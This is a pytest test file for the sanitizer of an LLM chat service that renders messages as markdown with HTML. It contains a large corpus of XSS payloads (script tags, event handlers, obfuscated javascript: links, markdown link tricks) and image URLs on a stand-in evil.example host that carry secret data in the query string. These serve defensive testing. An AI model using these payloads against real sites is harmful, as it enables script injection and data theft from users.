"""Sanitizing stored messages and replies (CONTRACT.md, Security; issue 5, item 4).

The ChatBox renders stored messages and replies as markdown with HTML, so `sanitize` must leave
nothing executable, while plain text, markdown and code pass unchanged. What counts as executable
is decided here by an independent checker (`executable`): Python's `html.parser` over the output
plus the markdown link targets a CommonMark renderer would turn into `href`/`src`, skipping only
what a CommonMark renderer shows as code (fenced blocks at the start of a line, matched backtick
runs in a paragraph that is not raw HTML). The property tests check what the widget would run
exactly: the HTML markdown-it-py's CommonMark renderer (raw HTML on, every link kept) makes of the
output, parsed by the same `html.parser` finder (`rendered_problems`, `rendered_images`).
"""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlalchemy import select

from llm_service.db.models import ChatMessage
from llm_service.security.sanitize import StreamSanitizer, sanitize
from tests.conftest import Api
from tests.fakes.vendor import FakeVendor

# --------------------------------------------------------------------------------------------
# The independent checker
# --------------------------------------------------------------------------------------------

DANGEROUS_TAGS = {
    "script", "style", "iframe", "object", "embed", "frame", "frameset", "applet", "svg",
    "math", "meta", "link", "base", "form", "template", "noscript",
}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
    "codebase", "dynsrc", "lowsrc", "srcset", "cite", "longdesc", "usemap",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]+")
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def bad_url(value: str) -> bool:
    """A URL a browser would run or render as a document: after entities, whitespace and
    control characters (which browsers skip in a scheme) are gone."""
    cleaned = _INVISIBLE.sub("", html.unescape(value)).lower()
    return cleaned.startswith(BAD_SCHEMES)


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        if ":" in tag and bad_url(tag):  # a markdown autolink, <javascript:...>
            self.problems.append(f"autolink <{tag}>")
        for name, value in attrs:  # html.parser lower-cases names and unescapes values
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            elif name in URL_ATTRIBUTES and value is not None and bad_url(value):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            elif name == "style" and value and re.search(
                r"javascript:|expression\(|@import|url\(", _INVISIBLE.sub("", value.lower())
            ):
                self.problems.append(f"style={value!r} on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    # Browsers end a comment earlier than html.parser does (`<!-->` is a whole comment there),
    # so what html.parser calls a comment is checked as markup too.
    def handle_comment(self, data: str) -> None:
        self.problems.extend(markup_problems(data))

    def unknown_decl(self, data: str) -> None:
        self.problems.extend(markup_problems(data))


def markup_problems(markup: str) -> list[str]:
    """Executable HTML in `markup`, wrapped in a paragraph as a markdown renderer wraps it (an
    unclosed tag at the end then takes the renderer's `</p>` as the end of its attributes)."""
    finder = _Finder()
    finder.feed(f"<p>{markup}</p>")
    finder.close()
    return finder.problems


_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_RAW_HTML_LINE = re.compile(r"^ {0,3}<[A-Za-z/!?]")
_BACKTICKS = re.compile(r"`+")


def _without_code_spans(paragraph: str) -> str:
    """CommonMark code spans: a backtick run closes at the next run of exactly its length; a
    run without one is literal text."""
    out: list[str] = []
    pos = 0
    while True:
        opener = _BACKTICKS.search(paragraph, pos)
        if opener is None:
            out.append(paragraph[pos:])
            return "".join(out)
        run = len(opener.group())
        closer = next(
            (m for m in _BACKTICKS.finditer(paragraph, opener.end()) if len(m.group()) == run),
            None,
        )
        if closer is None:
            out.append(paragraph[pos : opener.end()])
            pos = opener.end()
        else:
            out.append(paragraph[pos : opener.start()] + " ")
            pos = closer.end()


def rendered_as_markup(text: str) -> str:
    """`text` without what a CommonMark renderer shows as code. Conservative: a line starting
    with a tag may open a raw HTML block, so from there to the next blank line nothing counts as
    code; fences count only at the start of a line; indented code is not skipped."""
    lines = text.split("\n")
    kept: list[str] = []
    paragraph: list[str] = []

    def flush() -> None:
        if paragraph:
            kept.append(_without_code_spans("\n".join(paragraph)))
            paragraph.clear()

    raw = False
    i = 0
    while i < len(lines):
        line = lines[i]
        fence = None if raw else _FENCE_OPEN.match(line)
        if fence and not (fence.group(1)[0] == "`" and "`" in fence.group(2)):
            flush()
            char, length = fence.group(1)[0], len(fence.group(1))
            closing = re.compile(rf"^ {{0,3}}{re.escape(char)}{{{length},}}[ \t]*$")
            i += 1
            while i < len(lines) and not closing.match(lines[i]):
                i += 1
            i += 1
            continue
        if not line.strip():
            flush()
            raw = False
            kept.append(line)
        elif raw or _RAW_HTML_LINE.match(line):
            flush()
            raw = True
            kept.append(line)
        else:
            paragraph.append(line)
        i += 1
    flush()
    return "\n".join(kept)


_LINK_OPEN = re.compile(r"\]\([ \t]*\n?[ \t]*")
_REFERENCE = re.compile(r"^ {0,3}\[[^\]\n]+\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)", re.MULTILINE)


def _link_destination(text: str, start: int) -> str:
    """The destination of an inline link starting at `start` (just after `](` and spaces)."""
    if text.startswith("<", start):
        end = text.find(">", start)
        return text[start + 1 : end if end != -1 else len(text)]
    depth, i = 0, start
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            i += 2
            continue
        if ch in " \t\n" or (ch == ")" and depth == 0):
            break
        depth += {"(": 1, ")": -1}.get(ch, 0)
        i += 1
    return text[start:i]


def _markdown_url(destination: str) -> str:
    """The URL a CommonMark renderer makes of a link destination (before entity decoding)."""
    if destination.startswith("<") and destination.endswith(">"):
        destination = destination[1:-1]
    return _BACKSLASH_ESCAPE.sub(r"\1", destination)


def executable(text: str) -> list[str]:
    """Everything in `text` that a browser showing it as markdown-with-HTML would run."""
    markup = rendered_as_markup(text)
    problems = markup_problems(markup)
    for match in _LINK_OPEN.finditer(markup):
        target = _markdown_url(_link_destination(markup, match.end()))
        if bad_url(target):
            problems.append(f"markdown link to {target!r}")
    for match in _REFERENCE.finditer(markup):
        target = _markdown_url(match.group(1))
        if bad_url(target):
            problems.append(f"markdown reference definition to {target!r}")
    return problems


# The most trusting CommonMark renderer: raw HTML on, and every link destination kept (markdown-it's
# own check of `javascript:` is off), so whatever `sanitize` leaves is in the HTML.
RENDERER = MarkdownIt("commonmark", {"html": True})
RENDERER.validateLink = lambda url: True  # type: ignore[method-assign]


def rendered_problems(text: str) -> list[str]:
    """Everything executable in the HTML a CommonMark renderer makes of `text`, found by
    html.parser (`_Finder`): what the widget would run."""
    finder = _Finder()
    finder.feed(RENDERER.render(text))
    finder.close()
    return finder.problems


class _Images(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.sources: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.sources.append(dict(attrs).get("src"))


def rendered_images(text: str) -> list[str | None]:
    """The `src` of every image the renderer makes of `text`."""
    finder = _Images()
    finder.feed(RENDERER.render(text))
    finder.close()
    return finder.sources


# The checker itself must see what it is meant to see, or every test below proves nothing.
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="java&#115;cript:alert(1)">x</a>',
        "<a href=' \tjavascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript\\:alert(1))",
        "![x](<data:text/html,hi>)",
        "[x]: vbscript:msgbox(1)",
        "<javascript:alert(1)>",
        "``<img src=x onerror=alert(1)>`",
        "<div>\n`<img src=x onerror=alert(1)>`",
        '<div style="background:url(javascript:alert(1))">x</div>',
    ],
)
def test_checker_sees_executable_markup(text: str) -> None:
    assert executable(text)


@pytest.mark.parametrize(
    "text",
    [
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "~~~\n<img src=x onerror=alert(1)>",
        "[ok](https://example.com/a?b=1&c=2) and [m](mailto:a@b.c)",
        "a < b and javascript: is a word",
    ],
)
def test_checker_ignores_code_and_safe_links(text: str) -> None:
    assert executable(text) == []


# --------------------------------------------------------------------------------------------
# The XSS corpus
# --------------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    # script in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<!--><script>alert(1)</script>-->",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    # frames, objects, embeds, styles
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>",
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<applet code=Evil.class></applet>",
    # javascript:, vbscript:, data: links, obfuscated
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    "<A HREF='JaVaScRiPt:alert(1)'>upper</A>",
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # namespace and parser tricks
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    '<b title="&quot; onmouseover=alert(1) x=&quot;">x</b>',
    '<a href="https://ok" title="&quot;><img src=x onerror=alert(1)>">x</a>',
    "<b>&lt;img src=x onerror=alert(1)&gt;</b>",
    "<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>",
    # markdown links and images
    "[click](javascript:alert(1))",
    "[click](JavaScript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](\njavascript:alert(1))",
    '[click](javascript:alert(1) "title")',
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "[ok](https://example.com) then [bad](javascript:alert(document.cookie))",
    "[click](javascript&colon;alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript\\:alert(1))",
    "[x]([click](javascript:alert(1))",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][r]\n\n[r]: <vbscript:msgbox(1)>",
    "<javascript:alert(1)>",
    # markup next to markdown code
    "`<img src=x onerror=alert(1)>`<img src=x onerror=alert(2)>",
    "``<img src=x onerror=alert(1)>`",
    "x ```<img src=x onerror=alert(1)>",
    "x ```\n<img src=x onerror=alert(1)>\n```",
    "<div>\n`<img src=x onerror=alert(1)>`",
]

def _corpus() -> list[Any]:
    return [pytest.param(payload, id=repr(payload)[1:-1][:60]) for payload in XSS_PAYLOADS]


def test_corpus_holds_at_least_30_distinct_executable_payloads() -> None:
    # A few more are not executable as written: they are there to trip a sanitizer that removes
    # a tag only once or decodes entities (`<scr<script>ipt>`, `&lt;script&gt;` inside a tag).
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)
    assert len([p for p in XSS_PAYLOADS if executable(p)]) >= 30


@pytest.mark.parametrize("payload", _corpus())
def test_payload_leaves_nothing_executable(payload: str) -> None:
    cleaned = sanitize(payload)
    assert executable(cleaned) == [], cleaned
    assert rendered_problems(cleaned) == [], cleaned
    assert sanitize(cleaned) == cleaned


# --------------------------------------------------------------------------------------------
# Text, markdown and code pass unchanged
# --------------------------------------------------------------------------------------------

UNCHANGED = [
    "a < b",
    "x > y && y < z",
    "5 < 10 and 10 > 5",
    "I <3 you",
    "<- arrow and -> arrow, <=> spaceship, a<<2, b>>1",
    "Hello, how are you?",
    "# Heading\n\n## Sub-heading\n\nSome **bold**, *italic*, ~~struck~~ text.",
    "- one\n- two\n  - nested\n1. first\n2. second",
    "> a quote\n> on two lines",
    "See [the docs](https://example.com/docs?x=1&y=2#frag) and [the logo](https://example.com/l.png).",
    '[titled](https://example.com "A title")',
    "| a | b |\n|---|---|\n| 1 | 2 |\n| <3 | > |",
    "Use `<div>` for blocks and `<script>` for scripts.",
    "```html\n<div onclick=\"go()\">\n  <script>alert('hi')</script>\n</div>\n```",
    "```js\nconst s = '<img src=x onerror=alert(1)>';\nif (a < b && b > c) {}\n```",
    "~~~python\nprint('<script>')\nx = a<b\n~~~",
    "&lt;script&gt; is how you write it escaped",
    "Tom &amp; Jerry, &copy; 2025, &#60;tag&#62;",
    "Emoji 😀🎉👍🏽 and ❤️",
    "Привет, мир! 你好 世界 こんにちは مرحبا بالعالم שלום",
    "https://example.com/a?b=1&c=2",
    "Meet at 10:30, ratio 3:4, note: remember this",
    "Write to [me](mailto:someone@example.com) or mailto:someone@example.com",
    "A quote \"like this\" and 'this', a=b, path/to/file.txt",
    "Math: 2 * 3 = 6, 1/2 < 3/4, x^2",
    "",
    "   spaced   \n\n\ttabbed",
]


UNCHANGED += [
    "Inline ``code with ` backtick <b>`` here",
    "Mail <someone@example.com> or see <https://example.com>",
    "A [reference][docs] and a [shortcut].\n\n[docs]: https://example.com/docs\n[shortcut]: /a",
    "    indented <code> stays\n\n> quoted `<tag>` too",
    "Line one<br>line two, <b>bold</b> and <a href=\"https://example.com\">a link</a>",
]


@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in UNCHANGED])
def test_plain_text_markdown_and_code_pass_unchanged(text: str) -> None:
    assert sanitize(text) == text


# --------------------------------------------------------------------------------------------
# Properties
# --------------------------------------------------------------------------------------------

MARKUP_FRAGMENTS = [
    "<script>", "</script>", "<script", "</", "<", ">", "/>", "<img", " src=", "x", " onerror=",
    "onload=", "alert(1)", "javascript:", "JaVaScRiPt:", "vbscript:", "data:", "java&#115;cript:",
    "&#106;", "&colon;", "&#58;", "&lt;", "&gt;", "&amp;", "&quot;", '"', "'", "=", ":", "/",
    "\n", "\n\n", " ", "\t", "\x01", "[x](", "![i](", ")", "(", "]", "<a href=", "<svg",
    "<math>", "<style>", "<iframe", "<b>", "</b>", "<div>", "<!--", "-->", "<![CDATA[",
    "<p title=\"", "\\", "# ", "- ", "a < b", "https://x.example/", "mailto:a@b",
    "![a](", "![", "<img src=https://evil.example/x.png>", "https://evil.example/x.png", "> ",
    "    ", "1. ", "<div>",
]
CODE_FRAGMENTS = ["`", "``", "```", "~~~", "\n```\n", "[r]: "]


def text_from(fragments: list[str], alphabet: str) -> st.SearchStrategy[str]:
    pieces = st.one_of(st.sampled_from(fragments), st.text(alphabet=alphabet, max_size=4))
    return st.lists(pieces, max_size=25).map("".join)


markup_text = text_from(MARKUP_FRAGMENTS, "<>&\"'=:/()[]! \nabcsx")
rich_text = text_from(MARKUP_FRAGMENTS + CODE_FRAGMENTS, "<>&\"'=:/`()[]! \nabcsx")
# Block structure: containers, fences, HTML blocks and definitions in every arrangement.
BLOCK_FRAGMENTS = [
    "\n> ", "\n- ", "\n    ", "\n```\n", "```", "~~~", "<div>\n", "</div>", "\n\n", "\n",
    "[r]: ", "[r]:\n", "![r]", "[r]", "][r]", "](", ")", "javascript:alert(1)", "`", "``", "\t",
    "<img src=x onerror=alert(1)>", "1. ", "<!--", "-->", "<script>", "</script>", "<pre>",
    "\\", "&#106;", "'t'", "https://evil.example/x.png", "<javascript:x>", "x", "===", "\r\n",
    "\x00",
]
block_text = st.lists(st.sampled_from(BLOCK_FRAGMENTS), max_size=30).map("".join)

any_text = st.text(max_size=200)

PROPERTY_SETTINGS = settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


@PROPERTY_SETTINGS
@given(st.one_of(any_text, rich_text, block_text))
def test_sanitizing_is_idempotent(text: str) -> None:
    once = sanitize(text)
    assert sanitize(once) == once


@PROPERTY_SETTINGS
@given(any_text)
def test_arbitrary_text_sanitizes_to_nothing_executable(text: str) -> None:
    assert rendered_problems(sanitize(text)) == []


@PROPERTY_SETTINGS
@given(markup_text)
def test_markup_rich_text_sanitizes_to_nothing_executable(text: str) -> None:
    assert rendered_problems(sanitize(text)) == []


# Markdown code and reference definitions in the mix: the regex sanitizer this replaced let
# these through (issue 10); the explicit examples keep the shapes that broke it.
@PROPERTY_SETTINGS
@example("``<script>`")
@example("[x][1]\n\n[1]: javascript:alert(1)")
@example("x ```<img src=x onerror=alert(1)>")
@given(st.one_of(rich_text, block_text))
def test_markup_and_markdown_code_sanitize_to_nothing_executable(text: str) -> None:
    assert rendered_problems(sanitize(text)) == []


@PROPERTY_SETTINGS
@given(st.one_of(any_text, rich_text, block_text))
def test_no_image_is_left_from_a_host_not_allowed(text: str) -> None:
    assert rendered_images(sanitize(text)) == []


@PROPERTY_SETTINGS
@given(st.text(alphabet=st.characters(exclude_characters="<[\x00"), max_size=200))
def test_text_without_markup_characters_is_untouched(text: str) -> None:
    assert sanitize(text) == text


@PROPERTY_SETTINGS
@given(st.one_of(markup_text, rich_text, block_text), st.lists(st.integers(0, 300), max_size=8))
def test_a_reply_sanitized_as_it_streams_in_is_safe_at_every_moment(
    text: str, cuts: list[int]
) -> None:
    ends = sorted({cut % (len(text) + 1) for cut in cuts})
    pieces = [text[a:b] for a, b in zip([0, *ends], [*ends, len(text)], strict=True)]
    stream = StreamSanitizer()
    shown = ""
    for piece in pieces:
        shown += stream.feed(piece)
        assert rendered_problems(shown) == [], (pieces, shown)
        assert rendered_images(shown) == [], (pieces, shown)
    shown += stream.finish()
    assert rendered_problems(shown) == [], (pieces, shown)
    final = stream.text()
    assert rendered_problems(final) == [] and sanitize(final) == final, (pieces, final)


# --------------------------------------------------------------------------------------------
# Issue 10: CommonMark's own idea of code, reference definitions, images
# --------------------------------------------------------------------------------------------

REPRODUCTIONS = [
    "hi ~~~<img src=x onerror=alert(1)>~~~",  # tildes fence only at a line start
    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
    "x ```<img src=x onerror=alert(1)>`` y",  # unequal backtick runs
    "    ```\n<img src=x onerror=alert(1)>\n```",  # an indented "fence" is indented code
    "<div>`</div><img src=x onerror=alert(1)>`",  # no code spans inside an HTML block
    "[x][1]\n\n[1]: javascript:alert(1)",  # reference definitions
    "[x][1]\n\n[1]:\n  <javascript:alert(1)> 'title'",
    "> [x][1]\n>\n> [1]: vbscript:msgbox(1)",
    "- item\n\n  <img src=x onerror=alert(1)>",
    "> <div>\n> <img src=x onerror=alert(1)>",
    "x <script/xss>alert(1)</script>",
    "[click](\x01javascript:alert(1))",
    "\n> 1. <!--\n> ",  # markdown-it-py 4.3 itself fails on this one: no 500 for it
]


@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS])
def test_issue_10_reproduction_is_made_safe(text: str) -> None:
    cleaned = sanitize(text)
    assert rendered_problems(cleaned) == [], cleaned
    assert executable(cleaned) == [], cleaned
    assert sanitize(cleaned) == cleaned


@pytest.mark.parametrize(
    "text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS[:10]]
)
def test_issue_10_reproduction_is_live_as_written(text: str) -> None:
    assert rendered_problems(text) or executable(text)


def test_an_unsafe_reference_definition_points_nowhere() -> None:
    assert sanitize("[x][1] and [y]\n\n[1]: javascript:alert(1)\n[y]: <data:text/html,x> 't'") == (
        "[x][1] and [y]\n\n[1]: #\n[y]: # 't'"
    )


def test_raw_html_in_a_container_keeps_the_container() -> None:
    assert sanitize("> <div>\n> <img src=x onerror=alert(1)>\n> hi\n") == (
        '> <div>\n> <a href="x">image</a>\n> hi\n> </div>\n'
    )
    assert sanitize("- a\n\n\t<img src=x onerror=alert(1)>") == '- a\n\n\t<a href="x">image</a>'


def test_markdown_code_is_never_touched() -> None:
    text = (
        "``<img src=x onerror=alert(1)>`` and `[x](javascript:alert(1))`\n\n"
        "```\n<script>alert(1)</script>\n```\n\n    <iframe src=javascript:alert(1)>\n"
    )
    assert sanitize(text) == text


def test_an_autolink_with_an_unsafe_scheme_is_shown_as_text() -> None:
    assert sanitize("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
    assert sanitize("<https://example.com/a>") == "<https://example.com/a>"


def test_nul_is_removed_and_text_is_kept() -> None:
    assert sanitize("a\x00b") == "ab"
    assert sanitize("<b>a\x00b</b>") == "<b>ab</b>"


def test_text_that_never_settles_is_shown_inert() -> None:
    from llm_service.security import sanitize as module

    assert module._inert("<b>[x](y)</b>") == r"&lt;b\>\[x\]\(y\)&lt;\/b\>"
    assert sanitize(module._inert("<img src=x onerror=alert(1)>")) == module._inert(
        "<img src=x onerror=alert(1)>"
    )


# Images: shown only from LLM_ALLOWED_IMAGE_HOSTS (issue 10, item 14).

def test_a_markdown_image_becomes_a_link() -> None:
    assert sanitize("![alt](https://evil.example/x.png?d=secret)") == (
        "[alt](https://evil.example/x.png?d=secret)"
    )
    assert sanitize("![](https://evil.example/x.png)") == "[image](https://evil.example/x.png)"
    assert sanitize("![chart][c]\n\n[c]: https://evil.example/c.png") == (
        "[chart][c]\n\n[c]: https://evil.example/c.png"
    )


def test_an_html_image_becomes_a_link() -> None:
    assert sanitize('<img src="https://evil.example/x.png?d=secret" alt="a chart">') == (
        '<a href="https://evil.example/x.png?d=secret">a chart</a>'
    )
    assert sanitize("<p>\n<img src=https://evil.example/x.png>\n</p>") == (
        '<p>\n<a href="https://evil.example/x.png">image</a>\n</p>'
    )


def test_an_image_from_an_allowed_host_stays() -> None:
    hosts = ["img.example"]
    for text in ("![alt](https://img.example/x.png)", "![alt](HTTPS://IMG.EXAMPLE:8443/x.png)",
                 '<img src="https://img.example/x.png" alt="a">',
                 "A ![b][c]\n\n[c]: https://img.example/c"):
        assert sanitize(text, image_hosts=hosts) == text
        assert len(rendered_images(text)) == 1


@pytest.mark.parametrize(
    "url",
    [
        "https://img.example@evil.example/x.png",
        "https://evil.example\\@img.example/x.png",
        "//img.example/x.png",
        "http://img.example.evil.example/x.png",
        "https://evil.example/img.example/x.png",
        "ftp://img.example/x.png",
        "/relative/x.png",
    ],
)
def test_an_image_is_shown_only_when_its_host_is_certainly_allowed(url: str) -> None:
    for text in (f"![a]({url})", f'<img src="{url}">'):
        cleaned = sanitize(text, image_hosts=["img.example"])
        assert rendered_images(cleaned) == [], cleaned


def test_allowed_image_hosts_is_a_comma_separated_setting() -> None:
    from llm_service.settings import Settings

    assert Settings(LLM_ALLOWED_IMAGE_HOSTS=" img.example, cdn.example ,").allowed_image_hosts == [
        "img.example", "cdn.example"
    ]
    assert Settings().allowed_image_hosts == []


# --------------------------------------------------------------------------------------------
# Through the service: the vendor gets the message as typed, history and answer are sanitized
# --------------------------------------------------------------------------------------------

TYPED = "<img src=x onerror=alert(1)>Hello, is a < b? <script>alert('reply')</script>"


async def test_chat_sends_as_typed_and_stores_and_answers_sanitized(
    api: Api, fake_vendor: FakeVendor
) -> None:
    auth = api.auth(1)
    saved = await api.client.post(
        "/llm/config/openai",
        json={"apiKey": "sk-sanitize-test-key-1234", "model": "gpt-4o-mini"},
        headers=auth,
    )
    assert saved.status_code == 200, saved.text

    response = await api.client.post(
        "/llm/chat/openai", json={"message": TYPED, "history": []}, headers=auth
    )
    assert response.status_code == 200, response.text

    (record,) = fake_vendor.requests_for("openai")
    assert record.body["messages"][-1] == {"role": "user", "content": TYPED}

    echo = f"Echo from openai gpt-4o-mini: {TYPED}"
    reply = response.json()["response"]
    assert reply == sanitize(echo)
    assert "<script" not in reply and "onerror" not in reply
    assert "a < b" in reply and "Hello" in reply
    assert executable(reply) == []

    stored = (await api.client.get("/llm/history/openai", headers=auth)).json()
    assert [(m["role"], m["content"]) for m in stored["history"]] == [
        ("user", sanitize(TYPED)),
        ("assistant", sanitize(echo)),
    ]
    user_row = stored["history"][0]["content"]
    assert user_row == "<a href=\"x\">image</a>Hello, is a < b? "
    assert executable(user_row) == []

    async with api.runtime.sessions() as session:
        rows = list(await session.scalars(select(ChatMessage).order_by(ChatMessage.id)))
    assert [row.content for row in rows] == [sanitize(TYPED), sanitize(echo)]


async def test_plain_chat_is_stored_exactly_as_typed(api: Api, fake_vendor: FakeVendor) -> None:
    auth = api.auth(1)
    await api.client.post(
        "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
    )
    typed = "Why is `a < b` true? ```\n<div>x</div>\n``` &lt;b&gt; 10:30"
    response = await api.client.post("/llm/chat/openai", json={"message": typed}, headers=auth)
    assert response.status_code == 200, response.text
    assert response.json()["response"].endswith(": " + typed)
    history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
    assert history[0]["content"] == typed
    assert history[1]["content"].endswith(": " + typed)


def stream_events(body: str) -> list[tuple[str, Any]]:
    events = []
    for block in body.strip().split("\n\n"):
        fields = dict(
            line.split(": ", 1) for line in block.split("\n") if line and not line.startswith(":")
        )
        if fields:
            events.append((fields["event"], json.loads(fields["data"])))
    return events


async def test_streamed_reply_is_sanitized_piece_by_piece_and_stored_sanitized(
    api: Api, fake_vendor: FakeVendor
) -> None:
    auth = api.auth(1)
    await api.client.post(
        "/llm/config/openai",
        json={"apiKey": "sk-sanitize-test-key-1234", "model": "gpt-4o-mini"},
        headers=auth,
    )
    response = await api.client.post(
        "/llm/chat/openai/stream", json={"message": TYPED, "history": []}, headers=auth
    )
    assert response.status_code == 200, response.text
    (record,) = fake_vendor.requests_for("openai")
    assert record.body["messages"][-1] == {"role": "user", "content": TYPED}

    events = stream_events(response.text)
    deltas = [data["text"] for name, data in events if name == "delta"]
    assert deltas and events[-1][0] == "done"
    echo = f"Echo from openai gpt-4o-mini: {TYPED}"
    # What the widget shows while the reply streams in: every prefix of it is safe.
    for shown in (("".join(deltas[: i + 1])) for i in range(len(deltas))):
        assert executable(shown) == [], shown
        assert "<script" not in shown and "onerror" not in shown
    assert events[-1][1]["response"] == sanitize(echo)
    history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
    assert [m["content"] for m in history] == [sanitize(TYPED), sanitize(echo)]


IMAGES = "see ![chart](https://img.example/c.png) and ![x](https://evil.example/x.png?d=secret)"


async def test_chat_shows_images_only_from_allowed_hosts(
    make_api: Any, fake_vendor: FakeVendor
) -> None:
    async with make_api(LLM_ALLOWED_IMAGE_HOSTS="img.example") as api:
        auth = api.auth(1)
        await api.client.post(
            "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
        )
        expected = (
            "see ![chart](https://img.example/c.png) and [x](https://evil.example/x.png?d=secret)"
        )
        response = await api.client.post(
            "/llm/chat/openai", json={"message": IMAGES}, headers=auth
        )
        assert response.status_code == 200, response.text
        assert response.json()["response"].endswith(": " + expected)
        streamed = await api.client.post(
            "/llm/chat/openai/stream", json={"message": IMAGES}, headers=auth
        )
        events = stream_events(streamed.text)
        deltas = "".join(data["text"] for name, data in events if name == "delta")
        assert events[-1][0] == "done" and events[-1][1]["response"] == deltas
        assert deltas.endswith(": " + expected)
